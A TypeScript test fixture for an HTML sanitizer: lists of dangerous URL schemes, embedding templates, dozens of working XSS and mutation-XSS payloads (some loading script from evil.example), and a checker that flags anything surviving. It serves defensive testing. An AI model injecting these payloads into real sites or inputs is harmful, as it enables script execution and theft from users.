/** Hostile bodies and addresses, and the check that nothing of them survives. */

/** Addresses that no function may let through; each is tried as a link, a picture, a frame, a film and more. */
export const badAddresses: readonly string[] = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' \t\njavascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'jav\r\nascript:alert(1)',
  '\u0001javascript:alert(1)',
  '\u0000javascript:alert(1)',
  '\u00a0javascript:alert(1)',
  '\ufeffjavascript:alert(1)',
  '\u2028javascript:alert(1)',
  'javascript://paper.example/%0aalert(1)',
  'javascript:/*https://*/alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD4=',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'DATA:,x',
  'vbscript:msgbox(1)',
  'livescript:alert(1)',
  'mocha:alert(1)',
  'blob:https://paper.example/6f1c',
  'filesystem:https://paper.example/temporary/x',
  'file:///etc/passwd',
  'view-source:https://paper.example/',
  'ftp://paper.example/x',
  'ws://paper.example/',
  'intent://paper.example#Intent;scheme=https;end',
  'about:blank',
  'chrome://settings',
  'feed:javascript:alert(1)',
  'jar:https://paper.example/x!/',
  'ms-word:ofe|u|https://paper.example/',
];

/** Bodies in which `bad` stands for an address. */
export const traps: readonly ((bad: string) => string)[] = [
  (bad) => `<a href="${bad}">words</a>`,
  (bad) => `<a href='${bad}' xlink:href="${bad}" ping="${bad}" target="_blank">words</a>`,
  (bad) => `<img src="${bad}" data-src="${bad}" srcset="${bad} 2x" data-srcset="${bad} 1x" longdesc="${bad}" alt="">`,
  (bad) => `<picture><source srcset="${bad}"><img alt=""></picture>`,
  (bad) => `<iframe src="${bad}" data-src="${bad}" srcdoc="<script>alert(1)</script>"></iframe>`,
  (bad) => `<video src="${bad}" poster="${bad}"><source src="${bad}"></video>`,
  (bad) => `<audio><source src="${bad}"></audio>`,
  (bad) =>
    `<blockquote class="mastodon-embed" cite="${bad}" data-embed-url="${bad}"><a href="${bad}">words</a></blockquote>`,
  (bad) => `<a href="${bad}"><figure><img src="/a.jpg"></figure></a>`,
  (bad) =>
    `<base href="${bad}"><link rel="stylesheet" href="${bad}"><meta http-equiv="refresh" content="0;url=${bad}"><p>words</p>`,
];

/** Whole bodies. Only words may come of them. */
export const attacks: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x"onerror="alert(1)">',
  '<img/src/onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,x#y"></use></svg>',
  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<template><script>alert(1)</script></template>',
  '<template shadowrootmode="open"><script>alert(1)</script></template>',
  '<noembed><img src=x onerror=alert(1)></noembed>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><script>alert(1)</script>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="//evil.example" onload="alert(1)"></iframe>',
  '<object data="javascript:alert(1)"><embed src="javascript:alert(1)"></object>',
  '<embed src="data:text/html,x">',
  '<applet code="x"></applet>',
  '<body onload=alert(1)><p onclick="alert(1)" style="background:url(javascript:alert(1))">words</p>',
  '<p style="position:fixed;inset:0">words</p>',
  '<style>*{background:url(//evil.example)}</style>',
  '<link rel=import href="//evil.example">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:/"><a href="alert(1)">words</a>',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<form><input name="childNodes"><input name="attributes"><input name="nodeName"></form><p>words</p>',
  '<form id="x"><input name="firstChild"><input name="nodeType"></form><img name="body"><img name="documentElement" src="/a.jpg">',
  '<button formaction="javascript:alert(1)">go</button>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<marquee onstart=alert(1)>words</marquee>',
  '<details open ontoggle=alert(1)><summary>words</summary>more</details>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<a href="java&#x09;script:alert(1)">words</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">words</a>',
  '<a href="javascript&colon;alert(1)">words</a>',
  '<a href="&#1;javascript:alert(1)">words</a>',
  '<a href="//evil.example\\@paper.example" id="__proto__">words</a><a href="#__proto__">x</a>',
  '<a href="#constructor">x</a><h2 id="constructor">words</h2>',
  '<h2 id="x&quot; onclick=&quot;alert(1)">words</h2><a href="#x%22%20onclick=%22alert(1)">x</a>',
  '<p lang="&quot;><script>alert(1)</script>">words</p>',
  '<ol start="1e9"><li value="9e9">words</ol>',
  '<table><tr><td colspan="99999999" rowspan="99999999">words<td>x</table>',
  '<img src="/a.jpg" width="999999999" height="-5" usemap="#m"><map name="m"><area href="javascript:alert(1)"></map>',
  '<img src="https://user:pass@paper.example/a.jpg">',
  '<!--[if IE]><script>alert(1)</script><![endif]--><p>words</p>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?><p>words</p>',
  '<x-evil onclick=alert(1) is="x">words</x-evil>',
  '<p slot="x" part="y" class="z" data-x="1">words</p>',
  '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>',
  '<head><script>alert(1)</script></head><p>words',
  '<p>words</p></body></html><script>alert(1)</script>',
  '<dialog open><p>words</p></dialog><slot name="x">words</slot>',
  '<a href="https://\u202egro.elpmaxe\u202c/">wo\u202erds</a>',
  '\u0000<p>wo\u0000rds</p>',
];

const fields: Record<string, readonly string[]> = {
  paragraph: ['id', 'children', 'lang', 'dir'],
  heading: ['level', 'id', 'children', 'lang', 'dir'],
  list: ['ordered', 'start', 'items'],
  quote: ['children', 'cite'],
  pullquote: ['children', 'cite'],
  figure: ['image', 'caption', 'href'],
  gallery: ['figures', 'caption'],
  table: ['caption', 'rows'],
  code: ['text'],
  embed: ['site', 'url', 'src', 'title', 'ratio', 'caption', 'children'],
  media: ['kind', 'src', 'poster', 'caption'],
  details: ['summary', 'children'],
  rule: [],
  cut: [],
  mark: ['mark', 'children', 'lang', 'dir'],
  link: ['href', 'children', 'id'],
  break: [],
};
const untyped = [
  'src',
  'srcset',
  'width',
  'height',
  'alt',
  'id',
  'children',
  'cells',
  'head',
  'numeric',
  'colspan',
  'rowspan',
];
const marks = 'em strong code sub sup small mark del ins q cite kbd abbr bdi span'.split(' ');
const frames =
  /^https:\/\/(?:www\.youtube-nocookie\.com\/embed|player\.vimeo\.com\/video|open\.spotify\.com\/embed|w\.soundcloud\.com\/player|www\.dailymotion\.com\/embed|bandcamp\.com\/EmbeddedPlayer|datawrapper\.dwcdn\.net|flo\.uri\.sh|www\.google\.com\/maps)\b/;

/** What is wrong with blocks, in sentences; nothing, if they hold only what the model allows and addresses that may be followed. */
export function faults(blocks: unknown): string[] {
  const found: string[] = [];
  const ids: string[] = [];
  const targets: string[] = [];
  const visit = (value: unknown, key: string, owner: string): void => {
    if (Array.isArray(value)) {
      for (const inner of value) visit(inner, key, owner);
    } else if (typeof value === 'object' && value) {
      const node = value as Record<string, unknown>;
      const type = 'type' in node ? String(node.type) : undefined;
      const known = type === undefined ? untyped : Object.hasOwn(fields, type) ? fields[type] : undefined;
      if (!known) found.push(`The type ${type} is unknown.`);
      for (const [name, inner] of Object.entries(node)) {
        if (name === 'type') continue;
        if (!known?.includes(name)) found.push(`${type ?? key} has the unknown field ${name}.`);
        if (inner === undefined) found.push(`${type ?? key} has an empty field ${name}.`);
        visit(inner, name, type ?? key);
      }
    } else if (typeof value === 'string') {
      if (/[\u202a-\u202e]|\p{Cs}/u.test(value)) found.push(`${key} holds an override or half a character.`);
      if (key === 'id') ids.push(value);
      if (key === 'mark' && !marks.includes(value)) found.push(`The mark ${value} is unknown.`);
      if (key === 'src' && owner === 'embed' && !frames.test(value)) found.push(`${value} may be framed.`);
      if (key === 'href' && value.startsWith('#')) targets.push(value.slice(1));
      else if (key === 'href') follow(value, /^(?:https?|mailto|tel):$/);
      else if (['src', 'url', 'poster'].includes(key)) follow(value, /^https?:$/);
      else if (key === 'srcset') for (const part of value.split(', ')) follow(part.split(' ')[0] ?? '', /^https?:$/);
    }
  };
  const follow = (address: string, allowed: RegExp): void => {
    const url = URL.canParse(address) ? new URL(address) : undefined;
    if (!url || !allowed.test(url.protocol) || url.username || url.password)
      found.push(`The address ${address} survived.`);
  };
  visit(blocks, 'blocks', 'body');
  for (const target of targets) if (!ids.includes(target)) found.push(`#${target} points to nothing.`);
  if (new Set(ids).size !== ids.length) found.push('An id stands twice.');
  return found;
}

/** An attribute's value as HTML writes it. */
export const escaped = (value: string): string =>
  value.replace(/&/g, '&amp;').replace(/"/g, '&quot;').replace(/'/g, '&#39;').replace(/</g, '&lt;');
